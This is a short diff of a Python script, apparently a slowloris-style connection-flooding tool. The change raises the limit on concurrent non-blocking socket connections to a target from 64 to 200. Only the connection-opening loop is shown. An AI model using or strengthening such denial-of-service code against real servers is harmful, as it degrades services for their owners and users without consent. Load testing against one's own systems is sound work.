@@ -176,7 +176,7 @@ for i in range(held):                      # slowloris: connections that send a 
 selector = selectors.DefaultSelector()
 done = started = 0
 while done < total:
-    while started < total and started - done < 64:
+    while started < total and started - done < 200:
         s = socket.socket(); s.setblocking(False)
         s.connect_ex((target, ports[started % len(ports)]))
         selector.register(s, selectors.EVENT_WRITE)
